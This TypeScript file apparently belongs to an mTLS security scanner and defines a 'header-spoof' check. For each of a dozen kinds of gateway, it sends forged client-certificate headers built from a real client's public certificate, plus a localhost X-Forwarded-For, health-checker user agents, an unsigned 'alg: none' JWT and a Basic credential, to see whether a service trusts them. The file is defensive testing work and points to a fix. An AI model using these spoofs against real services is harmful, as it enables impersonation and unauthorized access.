import { oids } from "../../pki/oids.ts";
import { encodePem } from "../../pki/pem.ts";
import type { Certificate } from "../../pki/verify/certificate.ts";
import { displayName, textsOf } from "../../pki/verify/name.ts";
import { type Attack, asking } from "../attack.ts";
import { ignoreHeaders } from "./fixes.ts";

type Fields = Readonly<Record<string, string>>;

/**
 * What gateways write about a client, as they write it: for services that believe whoever sends it. Each
 * names a valid client and holds its certificate, which is public. One request for each gateway: a name may
 * have another value with another one, and many services take 8 KiB of fields at most.
 */
function spoofs(client: Certificate): readonly (readonly [kind: string, fields: Fields])[] {
  const { der, serial } = client;
  const escaped = encodeURIComponent(encodePem("CERTIFICATE", der));
  const base64 = Buffer.from(der).toString("base64");
  const subject = headerText(displayName(client.subject));
  const issuer = headerText(displayName(client.issuer));
  const name = headerText(textsOf(client.subject, oids.commonName)[0] ?? "fleetsec-probe");
  const uri = client.subjectAltName?.find(({ type }) => type === "uri");
  const uriText = headerText(uri?.type === "uri" ? uri.value : "spiffe://fleet.internal/fleetsec-probe");
  const described = { "x-ssl-client-dn": subject, "x-ssl-client-cn": name, "x-ssl-client-serial": serial };
  return [
    [
      "X-Forwarded-Client-Cert",
      {
        "x-forwarded-client-cert": `By=spiffe://fleet.internal/gateway;Hash=${"0".repeat(64)};Subject="${subject}";URI=${uriText};Cert="${escaped}"`,
      },
    ],
    [
      "X-SSL-Client-*",
      {
        ...described,
        "x-ssl-client-verify": "SUCCESS",
        "x-ssl-client-s-dn": subject,
        "x-ssl-client-i-dn": issuer,
        "x-ssl-client-cert": escaped,
      },
    ],
    // 0 is how HAProxy says that nothing is wrong
    [
      "X-SSL-Client-* of HAProxy",
      {
        ...described,
        "x-ssl": "1",
        "x-ssl-client": "1",
        "x-ssl-client-used": "1",
        "x-ssl-client-verify": "0",
        "x-ssl-client-der": base64,
        "x-ssl-client-cert": base64,
      },
    ],
    [
      "SSL-Client-*",
      {
        "ssl-client-verify": "SUCCESS",
        "ssl-client-subject-dn": subject,
        "ssl-client-issuer-dn": issuer,
        "ssl-client-cert": escaped,
      },
    ],
    [
      "X-Client-Cert",
      {
        "x-client-cert": escaped,
        "x-client-verify": "SUCCESS",
        "x-client-dn": subject,
        "x-client-cert-present": "true",
        "x-client-cert-chain-verified": "true",
      },
    ],
    // RFC 9440, section 2.1
    ["Client-Cert", { "client-cert": `:${base64}:` }],
    [
      "X-Forwarded-Tls-Client-Cert",
      {
        "x-forwarded-tls-client-cert": encodeURIComponent(base64),
        "x-forwarded-tls-client-cert-info": encodeURIComponent(`Subject="${subject}"`),
      },
    ],
    [
      "X-Amzn-Mtls-Clientcert",
      {
        "x-amzn-mtls-clientcert": escaped,
        "x-amzn-mtls-clientcert-leaf": escaped,
        "x-amzn-mtls-clientcert-subject": subject,
        "x-amzn-mtls-clientcert-issuer": issuer,
        "x-amzn-mtls-clientcert-serial-number": serial,
      },
    ],
    ["X-ARR-ClientCert", { "x-arr-clientcert": base64 }],
    // who comes from the machine itself may need none
    [
      "X-Forwarded-For",
      {
        "x-forwarded-for": "127.0.0.1",
        "x-real-ip": "127.0.0.1",
        // RFC 7239, section 4
        forwarded: "for=127.0.0.1;host=localhost;proto=https",
      },
    ],
    // of Kubernetes, AWS and Google: load balancers have no certificate
    ["User-Agent", { "user-agent": "kube-probe/1.31 ELB-HealthChecker/2.0 GoogleHC/1.0" }],
    ["Authorization: Bearer", { authorization: `Bearer ${unsignedToken(name)}` }],
    // of nobody's: a password that is tried on a client's own name may lock it out
    [
      "Authorization: Basic",
      { authorization: `Basic ${Buffer.from("fleetsec-probe:fleetsec-probe").toString("base64")}` },
    ],
  ];
}

/** A token that nobody signed (RFC 7519, section 6), good until the year 2100. */
function unsignedToken(subject: string): string {
  const parts = [
    { alg: "none", typ: "JWT" },
    { sub: subject, exp: 4_102_444_800 },
  ];
  return `${parts.map((part) => Buffer.from(JSON.stringify(part)).toString("base64url")).join(".")}.`;
}

/** What stands in a certificate must not write a field of its own. */
const headerText = (text: string) => text.replaceAll(/[^\u0020-\u007e]/g, "?");

export const headerSpoof: Attack = {
  id: "header-spoof",
  title: "header fields in place of one",
  reference: "RFC 9440 section 4",
  meaning: "whoever writes what a gateway would write is taken for a client with a certificate",
  fix: ignoreHeaders,
  weight: "required",
  takesIdentity: false,
  versions: ["1.3", "1.2"],
  async plan({ protocol, forgery }) {
    if (protocol.http === undefined)
      return { outcome: "not-applicable", reason: "the service speaks no HTTP" };
    const { request, ask } = protocol.http;
    const [leaf] = forgery.control?.chain ?? [];
    if (leaf === undefined)
      return { outcome: "not-run", reason: "needs a valid client's certificate, which it names" };
    const attempts = spoofs(leaf).map(([kind, spoofed]) => {
      const own = request.fields.filter(([name]) => spoofed[name] === undefined);
      return asking(ask({ ...request, fields: [...own, ...Object.entries(spoofed)] }), kind);
    });
    return { attempts };
  },
};
